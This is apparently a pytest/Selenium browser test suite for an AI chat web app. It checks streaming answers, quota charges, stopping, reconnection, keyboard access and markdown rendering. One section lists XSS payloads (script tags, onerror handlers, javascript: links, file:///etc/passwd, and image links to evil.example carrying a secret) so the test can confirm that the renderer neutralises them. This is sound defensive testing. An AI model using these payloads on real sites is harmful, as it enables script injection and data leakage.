"""A person chats, in a real browser, with a scripted provider behind a real server."""

import base64
import re
from collections.abc import Callable, Iterator
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from selenium.webdriver import Keys

from llm.models import ChatMessage, ChatSession, Credential, Model, Usage
from llm.relay import loops
from llm.seeds import plant
from tests.browser.person import Person
from tests.llm.upstream import Upstream, fails, stream
from voicehelper.accounts.models import ApiKey, User
from voicehelper.wallet.models import Entry
from voicehelper.wallet.services import credit, wallet_of
from voicehelper.wallet.worth import in_yuan

pytestmark = pytest.mark.django_db(transaction=True)

WORDS = [f"word{number}" for number in range(60)]
LAST = ".turn.answer:last-of-type"
DONE = f"{LAST} [data-spent]"


@pytest.fixture
def provider(shop: User) -> Iterator[Upstream]:
    """The models that come along, at a provider that answers as a test scripts it."""
    plant(Model)
    upstream = Upstream()
    Credential.objects.create(
        name="ark", provider="ark", base_url=upstream.url, api_key="k", from_environment=True, retry_delay_ms=10
    )
    loops.run(upstream.__aenter__())
    yield upstream
    loops.run(upstream.__aexit__())
    loops.hang_up()


def give(user: User, quota: int) -> None:
    credit(user, quota, kind=Entry.Kind.GIFT, ref=f"gift-{quota}", actor="test")


@pytest.fixture
def chatter(shop: User, provider: Upstream, open_browser: Callable[..., Person]) -> Person:
    """The buyer, at a desk, on the chat page, with a million quota."""
    give(shop, 1_000_000)
    somebody = open_browser()
    somebody.is_signed_in(shop)
    somebody.visit("/chat")
    somebody.loaded()
    return somebody


def ask(person: Person, question: str) -> None:
    person.fill("#content", question)
    person.press(Keys.ENTER)


def said(person: Person) -> str:
    return person.text(f"{LAST} [data-said]")


def balance_shown(person: Person) -> int:
    return int(person.text("[data-balance-shown]").replace(",", ""))


# --- Answers ---------------------------------------------------------------------------------------------------------
def test_an_answer_streams_in_pieces_and_the_quota_falls_by_what_the_usage_says(
    chatter: Person, shop: User, provider: Upstream, books_agree: Callable[[], None]
) -> None:
    provider.scripts = [stream(WORDS, (12, 345), pause_s=0.03)]
    chatter.mark_page()
    ask(chatter, "Tell me a story")
    chatter.sees(LAST, "word3")
    assert "word59" not in said(chatter)
    assert chatter.has("[data-stop]")
    assert not chatter.has("[data-send]")
    chatter.sees(DONE, "quota")
    assert said(chatter).split() == WORDS
    usage = Usage.objects.get()
    assert chatter.text(f"{LAST} [data-quota]") == f"{usage.quota:,} quota"
    assert balance_shown(chatter) == 1_000_000 - usage.quota == wallet_of(shop).balance
    assert f"It cost {usage.quota:,} quota" in (chatter.find("#announce").get_attribute("textContent") or "")
    session = ChatSession.objects.get()
    assert chatter.path == f"/chat/{session.public_id}"
    chatter.sees("#session-list [aria-current]", "Tell me a story")
    assert chatter.text("#talk-title") == "Tell me a story"
    assert chatter.page_was_kept()
    chatter.driver.refresh()
    chatter.sees(DONE, f"{usage.quota:,} quota")
    assert said(chatter).split() == WORDS
    assert chatter.complaints() == []
    books_agree()


@pytest.mark.rare
def test_a_conversation_goes_on_with_the_model_that_is_chosen(chatter: Person, provider: Upstream) -> None:
    chatter.click(".models summary")
    chatter.click("[value=doubao-pro]")
    assert not chatter.has(".models .sheet")
    assert chatter.text("[data-chosen]") == "doubao-pro"
    ask(chatter, "First")
    chatter.sees(DONE)
    ask(chatter, "Second")
    chatter.until(lambda: len(chatter.driver.find_elements("css selector", "[data-spent]:not([hidden])")) == 2, "two")
    assert [each.body["model"] for each in provider.asked] == ["ep-20241201140014-vbzjz"] * 2
    assert len(provider.asked[1].body["messages"]) == 3
    chatter.visit("/chat")
    assert chatter.text("[data-chosen]") == "doubao-pro"


@pytest.mark.rare
def test_O3_stop_keeps_what_was_written_and_tells_what_it_cost(
    chatter: Person, shop: User, provider: Upstream, books_agree: Callable[[], None]
) -> None:
    provider.scripts = [stream(WORDS, (12, 345), pause_s=0.1)]
    ask(chatter, "Tell me a story")
    chatter.sees(LAST, "word3")
    chatter.click("[data-stop]")
    chatter.sees(f"{LAST} [data-note]", "Stopped")
    chatter.sees(DONE, "quota")
    assert said(chatter).startswith("word0 word1")
    assert "word59" not in said(chatter)
    assert provider.asked[0].hung_up
    usage = Usage.objects.get()
    assert (usage.outcome, chatter.text(f"{LAST} [data-quota]")) == ("abandoned", f"{usage.quota:,} quota")
    chatter.until(lambda: balance_shown(chatter) == wallet_of(shop).balance == 1_000_000 - usage.quota, "the balance")
    assert chatter.has("[data-send]")
    books_agree()


@pytest.mark.rare
def test_the_end_is_followed_only_by_who_is_there(chatter: Person, provider: Upstream) -> None:
    provider.scripts = [stream([f"line{number}\n\n" for number in range(120)], pause_s=0.03)]
    ask(chatter, "A long one")
    chatter.sees(LAST, "line40")
    at = "const log = document.querySelector('[data-log]'); return log.scrollHeight - log.scrollTop - log.clientHeight"
    assert chatter.script(at) < 60
    chatter.script("document.querySelector('[data-log]').scrollTop = 0")
    chatter.sees("[data-to-end]")
    chatter.sees(DONE)
    assert chatter.script("return document.querySelector('[data-log]').scrollTop") == 0
    chatter.click("[data-to-end]")
    assert chatter.script(at) < 60
    assert not chatter.has("[data-to-end]")


# --- What goes wrong -------------------------------------------------------------------------------------------------
@pytest.mark.rare
def test_without_quota_a_card_leads_to_recharging_and_the_question_is_kept(
    shop: User, provider: Upstream, open_browser: Callable[..., Person]
) -> None:
    person = open_browser()
    person.is_signed_in(shop)
    person.visit("/chat")
    ask(person, "What does it cost?")
    person.sees(".broke", "Your quota does not cover this question")
    assert (person.find(".broke a").get_attribute("href") or "").endswith("/recharge")
    assert not ChatMessage.objects.exists()
    person.click(".broke a")
    person.sees("#account")
    give(shop, 1_000_000)
    person.driver.back()
    person.until(lambda: person.find("#content").get_attribute("value") == "What does it cost?", "the draft")
    person.click("[data-send]")
    person.sees(DONE)


@pytest.mark.rare
def test_a_card_without_quota_sends_again_when_there_is_some(
    shop: User, provider: Upstream, open_browser: Callable[..., Person]
) -> None:
    person = open_browser()
    person.is_signed_in(shop)
    person.visit("/chat")
    ask(person, "What does it cost?")
    person.sees(".broke [data-again]")
    give(shop, 1_000_000)
    person.click(".broke [data-again]")
    person.sees(DONE)
    assert not person.has(".broke")
    assert len(person.driver.find_elements("css selector", ".turn.mine")) == 1


@pytest.mark.rare
def test_offline_the_question_is_kept_and_asked_once_when_it_is_sent_again(chatter: Person, provider: Upstream) -> None:
    chatter.is_offline(True)
    ask(chatter, "Are you there?")
    chatter.sees(".trouble", "You are offline. Your question is kept")
    assert chatter.text(".turn.mine [data-said]") == "Are you there?"
    chatter.is_offline(False)
    chatter.click("[data-again]")
    chatter.sees(DONE)
    assert len(provider.asked) == 1
    assert not chatter.has(".trouble")


@pytest.mark.rare
def test_a_page_that_is_loaded_again_reads_on(
    chatter: Person, shop: User, provider: Upstream, books_agree: Callable[[], None]
) -> None:
    provider.scripts = [stream(WORDS, (12, 345), pause_s=0.15)]
    ask(chatter, "Tell me a story")
    chatter.sees(LAST, "word3")
    chatter.driver.refresh()
    chatter.sees(LAST, "word9")
    assert "word59" not in said(chatter)
    assert chatter.has("[data-stop]")
    chatter.sees(DONE, "quota")
    assert said(chatter).split() == WORDS
    assert not chatter.has(f"{LAST} [data-note]")
    usage = Usage.objects.get()
    assert (usage.outcome, len(provider.asked)) == ("ok", 1)
    assert balance_shown(chatter) == 1_000_000 - usage.quota == wallet_of(shop).balance
    assert chatter.complaints() == []
    books_agree()


@pytest.mark.rare
def test_an_answer_is_stopped_on_a_page_that_was_loaded_again(chatter: Person, provider: Upstream) -> None:
    provider.scripts = [stream(WORDS, (12, 345), pause_s=0.15)]
    ask(chatter, "Tell me a story")
    chatter.sees(LAST, "word3")
    chatter.driver.refresh()
    chatter.click("[data-stop]")
    chatter.sees(f"{LAST} [data-note]", "Stopped")
    chatter.sees(DONE, "quota")
    assert "word59" not in said(chatter)
    assert ChatMessage.objects.get(role="assistant").state == "stopped"
    assert chatter.has("[data-send]")


@pytest.mark.rare
def test_a_lost_connection_is_made_again_and_misses_nothing(chatter: Person, provider: Upstream) -> None:
    provider.scripts = [stream(WORDS, pause_s=0.1)]
    ask(chatter, "Tell me a story")
    chatter.sees(LAST, "word3")
    chatter.is_offline(True)
    chatter.is_offline(False)
    chatter.sees(DONE, "quota")
    assert said(chatter).split() == WORDS
    assert not chatter.has(f"{LAST} [data-note]")
    assert len(provider.asked) == 1


@pytest.mark.rare
def test_a_model_that_fails_is_said_and_the_question_can_be_edited(chatter: Person, provider: Upstream) -> None:
    provider.otherwise = fails(500)
    ask(chatter, "First try")
    chatter.sees(".trouble", "The model failed, please try again or choose another one")
    provider.otherwise = None
    chatter.click("[data-edit]")
    assert chatter.find(".editor textarea").get_attribute("value") == "First try"
    chatter.fill(".editor textarea", "Second try")
    chatter.click(".editor .primary")
    chatter.sees(DONE)
    assert [each["content"] for each in provider.asked[-1].body["messages"]] == ["Second try"]


@pytest.mark.rare
def test_what_failed_says_so_after_a_reload_and_is_asked_again(chatter: Person, shop: User, provider: Upstream) -> None:
    provider.otherwise = fails(500)
    ask(chatter, "Tell me a story")
    chatter.sees(".trouble", "The model failed")
    session = ChatSession.objects.get()
    chatter.until(lambda: chatter.path == f"/chat/{session.public_id}", "the address is not the conversation's")
    chatter.driver.refresh()
    chatter.sees(".turn.mine", "Tell me a story")
    chatter.sees(f"{LAST}.failed", "The model did not answer; nothing was charged.")
    assert chatter.find("#content").get_attribute("value") == ""
    assert wallet_of(shop).balance == 1_000_000
    provider.otherwise = None
    chatter.click(f"{LAST} form.again .secondary")
    chatter.sees(DONE, "quota")
    chatter.driver.refresh()
    chatter.sees(LAST, "Hello there")
    assert not chatter.has(".failed")
    assert not chatter.has("[data-versions]")
    assert ChatMessage.objects.filter(role="user").count() == 1


@pytest.mark.rare
def test_a_model_that_breaks_off_is_said_below_what_it_wrote(chatter: Person, provider: Upstream) -> None:
    provider.scripts = [stream(WORDS, error_after=5)]
    ask(chatter, "Tell me a story")
    chatter.sees(".trouble [data-words]")
    assert said(chatter).split() == WORDS[:5]
    chatter.click("[data-again]")
    chatter.sees(DONE)


# --- Writing ---------------------------------------------------------------------------------------------------------
@pytest.mark.rare
def test_enter_sends_but_not_with_shift_and_not_within_a_chinese_word(chatter: Person, provider: Upstream) -> None:
    chatter.fill("#content", "one")
    chatter.script(
        """for (const more of [{ isComposing: true }, { keyCode: 229 }]) {
             const event = new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true, ...more });
             window.sent = !document.querySelector("#content").dispatchEvent(event);
           }"""
    )
    assert chatter.script("return window.sent") is False
    height = chatter.find("#content").size["height"]
    chatter.find("#content").send_keys(Keys.SHIFT, Keys.ENTER)
    chatter.find("#content").send_keys("two")
    assert chatter.find("#content").size["height"] > height
    assert provider.asked == []
    chatter.press(Keys.ENTER)
    chatter.sees(DONE)
    assert provider.asked[0].body["messages"][-1]["content"] == "one\ntwo"
    assert chatter.find("#content").size["height"] == height


@pytest.mark.rare
def test_a_draft_survives_a_reload_and_an_example_is_only_written_down(chatter: Person, provider: Upstream) -> None:
    chatter.click("[data-example]")
    written = chatter.find("#content").get_attribute("value")
    assert written == "Explain quantum entanglement to a ten-year-old"
    chatter.driver.refresh()
    chatter.until(lambda: chatter.find("#content").get_attribute("value") == written, "the draft")
    assert provider.asked == []


@pytest.mark.rare
def test_everything_can_be_done_with_the_keyboard(chatter: Person, provider: Upstream) -> None:
    chatter.tab_to(".models summary")
    chatter.press(Keys.ENTER)
    chatter.tab_to("[name=model]:checked")
    chatter.press(Keys.ARROW_DOWN)
    chatter.press(Keys.ENTER)
    assert chatter.text("[data-chosen]") == "doubao-lite"
    assert chatter.script("return document.activeElement.id") == "content"
    provider.scripts = [stream(WORDS, pause_s=0.1)]
    chatter.press("Tell me a story")
    chatter.press(Keys.ENTER)
    chatter.sees(LAST, "word2")
    chatter.tab_to("[data-stop]")
    chatter.press(Keys.ENTER)
    chatter.sees(f"{LAST} [data-note]", "Stopped")
    assert chatter.script("return document.activeElement.id") == "content"
    chatter.sees(DONE)
    chatter.visit(chatter.path)
    chatter.tab_to("[popovertarget=rename]")
    chatter.press(Keys.ENTER)
    chatter.sees("#rename")
    chatter.fill("#new-title", "A better name")
    chatter.press(Keys.ENTER)
    chatter.sees("#talk-title", "A better name")
    chatter.tab_to("[popovertarget=delete]")
    chatter.press(Keys.ENTER)
    chatter.sees("#delete")
    chatter.press(Keys.ESCAPE)
    assert not chatter.has("#delete")
    assert ChatSession.objects.exists()
    chatter.press(Keys.ENTER)
    chatter.tab_to("#delete .danger")
    chatter.press(Keys.ENTER)
    chatter.sees("[data-welcome]")
    assert not ChatSession.objects.exists()


# --- What models write -----------------------------------------------------------------------------------------------
EVIL = {
    "a script": "<script>window.pwned = 1</script>",
    "a handler": "<img src=x onerror='window.pwned = 1'> <svg onload=window.pwned=1>",
    "a frame": "<iframe src='javascript:parent.pwned=1'></iframe><object data='x'></object>",
    "a form": "<form action='/keys'><button>Click</button></form><style>* { display: none }</style>",
    "a script link": "[click](javascript:window.pwned=1) [click](JaVaScRiPt&#58;window.pwned=1) <javascript:pwned=1>",
    "a data link": "[click](data:text/html;base64,PHNjcmlwdD4=) [a](vbscript:x) [b](file:///etc/passwd)",
    "a link that opens an app": "[call](tel:10086) [pay](weixin://dl/business) [x](intent://scan) <ftp://evil.example/>",
    "a link into the site": "[free quota](/recharge?amount=1) [x](//evil.example/) [y](#m)",
    "a foreign picture": "![secret](https://evil.example/?q=secret) ![s][1]\n\n[1]: https://evil.example/2",
    "a picture as data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "html in a table": "|<b>a</b>|b|\n|--|:-:|\n|<img src=x onerror=pwned=1>|`<i>`|",
    "html in code": "```html\n</code></pre><script>window.pwned=1</script>\n```",
    "a class of ours": '```"><img src=x onerror=pwned=1>\nx\n```',
    "endless lines": "x" * 100_000 + "\n\n`" + "y" * 50_000 + "`\n\n" + "> " * 3000 + "deep",
    "other ends of lines": "a\r\rb **b**\r\n\r\n- c\r- d\r\n\n# e\r\rf" * 3,
    "endless lists": "\n".join(f"{'  ' * level}- {level}" for level in range(300)),
}
DRAW = """
const [text, done] = arguments;
const modules = ["markdown", "colours"].map((name) => import(`/static/js/${name}.js`));
Promise.all(modules).then(async ([{ Prose }, { colour }]) => {
  // Code gets its colours in the order in which they were asked for: when these are there, all are.
  const coloured = () => colour(Object.assign(document.createElement("code"), { textContent: "<p>" }), "html");
  const place = document.createElement("div");
  place.className = "said";
  const turn = document.createElement("article");
  turn.className = "turn answer rendered";
  turn.append(place);
  document.querySelector("[data-turns]").replaceChildren(turn);
  const prose = new Prose(place, { copy: "Copy", copied: "Copied", picture: "Picture: {name}" });
  const step = Math.max(1, Math.floor(text.length / 40));
  for (let end = step; end < text.length; end += step) prose.grow(text.slice(0, end));
  prose.show(text);
  await coloured();
  const grown = place.innerHTML;
  place.replaceChildren();
  new Prose(place, { copy: "Copy", copied: "Copied", picture: "Picture: {name}" }).show(text);
  await coloured();
  setTimeout(() => done({
    same: grown === place.innerHTML,
    tags: [...new Set([...place.querySelectorAll("*")].map((each) => each.localName))],
    attributes: [...new Set([...place.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()))],
    links: [...place.querySelectorAll("a")].map((each) => [each.getAttribute("href"), each.textContent, each.rel]),
    text: place.textContent.slice(0, 400),
    html: place.innerHTML.slice(0, 2000),
    pwned: window.pwned ?? null,
    wide: document.documentElement.scrollWidth - innerWidth + Math.max(0, turn.scrollWidth - turn.clientWidth),
  }), 50);
});
"""
SAFE_TAGS = re.compile(
    "p|h[3-6]|ul|ol|li|blockquote|strong|em|s|table|thead|tbody|tr|th|td|hr|br|div|a|span|code|pre|figure|figcaption|button"
)
SAFE_ATTRIBUTES = re.compile("class|data-(copy(-group|-text)?|done)|tabindex|type|start|style|href|title|target|rel")


def draw(person: Person, text: str) -> Any:
    return person.driver.execute_async_script(DRAW, text)  # type: ignore[no-untyped-call]


def test_I10_nothing_a_model_writes_runs_or_calls_home_or_breaks_the_page(chatter: Person) -> None:
    for name, text in EVIL.items():
        drawn = draw(chatter, text)
        assert drawn["pwned"] is None, name
        assert [tag for tag in drawn["tags"] if not SAFE_TAGS.fullmatch(tag)] == [], name
        assert [each for each in drawn["attributes"] if not SAFE_ATTRIBUTES.fullmatch(each)] == [], name
        assert drawn["wide"] <= 0, name
        assert drawn["same"], f"{name} looks different when it comes in pieces"
        for href, _words, rel in drawn["links"]:
            assert href.startswith("https://evil.example/"), name
            assert rel == "noopener noreferrer nofollow"
    assert draw(chatter, EVIL["a foreign picture"])["links"][0][1] == "Picture: secret"
    assert "window.pwned = 1" in draw(chatter, EVIL["a script"])["text"]
    assert chatter.complaints() == []


@pytest.mark.rare
def test_I10_an_evil_answer_is_harmless_from_the_model_to_the_reload(chatter: Person, provider: Upstream) -> None:
    evil = " ".join(EVIL[name] for name in ("a script", "a handler", "a script link", "a foreign picture"))
    provider.otherwise = stream(evil.split(" "))
    ask(chatter, evil)
    chatter.sees(DONE)
    for _ in range(2):
        # But for the groups that blocks stand in.
        written = "document.querySelectorAll('.turn .said > :not(div), .turn .said > * *')"
        tags = f"return [...{written}].map((each) => each.localName)"
        assert set(chatter.script(tags)) <= {"p", "a", "br", "span"}
        assert chatter.script("return window.pwned") is None
        chatter.driver.refresh()
        chatter.sees(DONE)
    assert chatter.text("#talk-title").startswith("<script>window.pwned")
    assert chatter.complaints() == []


@pytest.mark.rare
def test_markdown_looks_as_it_was_meant(chatter: Person) -> None:
    drawn = draw(
        chatter,
        "# Title\n\nA **bold** and *soft* `word`, ~~gone~~; https://example.org/a?b=c&d and chat.py\nnext line\n\n"
        "3. three\n4. four\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nprint('<hi>')\n```\n\n&lt;tag&gt;",
    )
    for piece in (
        "<h3>Title</h3>",
        "<strong>bold</strong> and <em>soft</em> <code>word</code>, <s>gone</s>",
        ">https://example.org/a?b=c&amp;d</a> and chat.py<br>next line",
        '<ol start="3"><li>three</li><li>four</li></ol>',
        '<td style="text-align: right;">2</td>',
        "<figcaption><span>python</span>",
        "&lt;hi&gt;",
        "<p>&lt;tag&gt;</p>",
    ):
        assert piece in drawn["html"], piece


@pytest.mark.rare
def test_the_browser_says_what_quota_is_worth_as_the_server_does(chatter: Person) -> None:
    rate = Fraction(73, 5_000_000)
    amounts = [0, 1, 6, 7, 68, 69, 1500, 6725, 68_494, 4_993_275, 5_000_000, 123_456_789]
    asked = "const [amounts, rate, done] = arguments; import('/static/js/numbers.js').then(({ worth }) => "
    asked += "done(amounts.map((amount) => worth(amount, rate))))"
    told = chatter.driver.execute_async_script(asked, amounts, float(rate))  # type: ignore[no-untyped-call]
    assert told == [in_yuan(amount, rate) for amount in amounts]


# --- Everybody -------------------------------------------------------------------------------------------------------
@pytest.mark.rare
def test_without_javascript_the_form_posts_and_shows_the_answer(
    shop: User, provider: Upstream, open_browser: Callable[..., Person]
) -> None:
    give(shop, 1_000_000)
    person = open_browser("phone", javascript=False)
    person.is_signed_in(shop)
    person.visit("/chat")
    person.fill("#content", "Say hello")
    person.click("[data-send]")
    person.sees(LAST, "Hello there")
    assert balance_shown(person) == 1_000_000 - Usage.objects.get().quota
    person.click(".drawer")
    person.sees("#session-list", "Say hello")
    person.press(Keys.ESCAPE)
    person.visit("/keys")
    person.fill("#name", "my notebook")
    person.click(".make .primary")
    person.sees("[data-key]", "sk-")
    person.click("[popovertarget^=revoke]")
    person.click(".dialog:popover-open .danger")
    person.sees(".notice.good", "The key is revoked.")


@pytest.mark.rare
def test_the_pages_fit_the_phone(shop: User, provider: Upstream, open_browser: Callable[..., Person]) -> None:
    give(shop, 1_000_000)
    person = open_browser("phone")
    person.is_signed_in(shop)
    person.visit("/chat")
    person.fill("#content", "Say hello")
    person.click("[data-send]")
    person.sees(DONE)
    button = person.find("[data-send]").rect
    assert button["y"] > 844 * 2 / 3
    assert button["y"] + button["height"] <= 844
    for path in (person.path, "/chat", "/keys", "/usage"):
        person.visit(path)
        assert person.script("return document.documentElement.scrollWidth") <= 390, path
    person.visit("/chat")
    assert not person.has("#sessions")
    person.click(".drawer")
    person.click("#session-list a")
    person.sees("#talk-title", "Say hello")


@pytest.mark.rare
def test_a_key_is_made_copied_and_revoked(chatter: Person) -> None:
    chatter.visit("/keys")
    chatter.fill("#name", "my notebook")
    chatter.click(".make .primary")
    chatter.sees("[data-key]", "sk-")
    text = chatter.text("[data-key]")
    assert ApiKey.objects.get().digest == ApiKey.digest_of(text)
    assert text in chatter.text(".samples")
    chatter.click(".secret [data-copy]")
    copied = "return document.querySelector('.secret [data-copied]') !== null || getSelection().toString()"
    chatter.until(lambda: chatter.script(copied) in (True, text), "neither copied nor selected")
    chatter.click("[popovertarget^=revoke]")
    chatter.click(".dialog:popover-open .danger")
    chatter.sees(".empty", "No keys yet")
    assert chatter.complaints() == []


@pytest.mark.rare
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_has_enough_contrast(chatter: Person, provider: Upstream, scheme: str) -> None:
    measure = Path(__file__).with_name("contrast.js").read_text()
    chatter.sees_colours(scheme)
    chatter.click(".models summary")
    found = {"start": chatter.script(measure)}
    chatter.click(".models summary")
    provider.scripts = [stream(["# Title\n\n> quote\n\n", "[link](https://example.org)\n\n", "```\ncode\n```"])]
    ask(chatter, "Everything")
    chatter.sees(DONE)
    found["answer"] = chatter.script(measure)
    provider.otherwise = fails(500)
    ask(chatter, "And now")
    chatter.sees(".trouble")
    found["trouble"] = chatter.script(measure)
    chatter.click("[popovertarget=delete]")
    found["delete"] = chatter.script(measure)
    for path in ("/usage", "/keys"):
        chatter.visit(path)
        found[path] = chatter.script(measure)
    assert {place: poor for place, poor in found.items() if poor} == {}


# --- What was gone on with -------------------------------------------------------------------------------------------
@pytest.mark.rare
def test_a_continued_answer_is_copied_as_one(chatter: Person, provider: Upstream) -> None:
    first, second = ["The first", " half", " is lost"], ["and the", " second."]
    provider.scripts = [stream(first, space="", error_after=2), stream(second, space="")]
    ask(chatter, "Tell me a story")
    chatter.sees(".trouble [data-go-on-here]")
    chatter.click("[data-go-on-here]")
    chatter.sees(DONE, "quota")
    whole = "The first half and the second."
    copied = "return [...document.querySelectorAll('[data-copy-answer]')].filter((each) => each.offsetParent)"
    assert chatter.script(f"{copied}.map((each) => each.dataset.copy)") == [whole]
    chatter.driver.refresh()
    chatter.sees(DONE, "quota")
    assert chatter.script(f"{copied}.map((each) => each.dataset.copy)") == [whole]


# --- What goes along -------------------------------------------------------------------------------------------------
@pytest.mark.rare
def test_without_javascript_a_picture_goes_along_with_the_form(
    shop: User, provider: Upstream, open_browser: Callable[..., Person], tmp_path: Path
) -> None:
    give(shop, 1_000_000)
    Model.objects.filter(name="doubao-pro").update(capabilities=["chat", "multimodal"])
    picture, note = tmp_path / "large.png", tmp_path / "note.md"
    # Larger than other forms may be.
    picture.write_bytes(base64.b64decode(DOT) + bytes(2 * 1024**2))
    note.write_text("# 你好")
    person = open_browser("phone", javascript=False)
    person.is_signed_in(shop)
    person.visit("/chat")
    person.fill("#content", "What is this?")
    person.find("#files").send_keys(f"{picture}\n{note}")
    person.click(".models summary")
    person.until(lambda: person.has("[value=doubao-pro]"), "no model")
    person.click("[value=doubao-pro]")
    person.click("[data-send]")
    person.sees(LAST, "Hello there")
    text, shown = provider.asked[0].body["messages"][-1]["content"]
    assert text["text"] == "What is this?\n\nnote.md:\n```\n# 你好\n```"
    assert shown["image_url"]["url"].startswith(f"data:image/png;base64,{DOT[:-4]}")
    assert [each.text for each in person.driver.find_elements("css selector", ".turn.mine .name")] == [
        "large.png",
        "note.md",
    ]


PASTE = """
const bytes = Uint8Array.from(atob(arguments[0]), (each) => each.charCodeAt(0));
const clipboardData = new DataTransfer();
clipboardData.items.add(new File([bytes], "dot.png", { type: "image/png" }));
const paste = new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true });
document.querySelector("#content").dispatchEvent(paste);
"""
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def test_a_pasted_picture_goes_to_a_model_that_sees_and_stays_in_the_history(
    chatter: Person, provider: Upstream
) -> None:
    Model.objects.filter(name="doubao-pro").update(capabilities=["chat", "multimodal"])

    def somebody_sees() -> bool:
        # The server hears of it a moment later.
        chatter.visit("/chat")
        return bool(chatter.driver.find_elements("css selector", "[value=doubao-pro][data-sees]"))

    chatter.until(somebody_sees, "nobody sees")
    chatter.click(".models summary")
    chatter.click("[value=doubao-lite]")
    chatter.script(PASTE, DOT)
    chatter.sees("[data-chips] .chip", "dot.png")
    chatter.sees("[data-blind]", "doubao-lite does not look at pictures.")
    ask(chatter, "What is this?")
    assert provider.asked == []
    chatter.click("[data-see]")
    assert not chatter.has("[data-blind]")
    chatter.press(Keys.ENTER)
    chatter.sees(DONE, "quota")
    parts = provider.asked[0].body["messages"][-1]["content"]
    assert parts[1]["image_url"]["url"] == f"data:image/png;base64,{DOT}"
    assert not chatter.driver.find_elements("css selector", "[data-chips] .chip")
    assert chatter.has(".turn.mine .chip img")
    chatter.driver.refresh()
    chatter.until(
        lambda: chatter.script("return document.querySelector('.turn.mine .chip img')?.naturalWidth") == 1,
        "the history shows no picture",
    )
    across = {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": False}
    for width in (1280, 390):
        chatter.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", across | {"width": width})
        chatter.sees(f"{LAST} .generated", "AI-generated")
        chatter.sees(".composer > .help", "made by AI")
    assert chatter.script("return document.documentElement.scrollWidth") <= 390
    chatter.script(PASTE, DOT)
    chatter.sees("[data-chips] [data-remove]")
    chatter.click("[data-chips] [data-remove]")
    assert not chatter.driver.find_elements("css selector", "[data-chips] .chip")
    assert chatter.complaints() == []
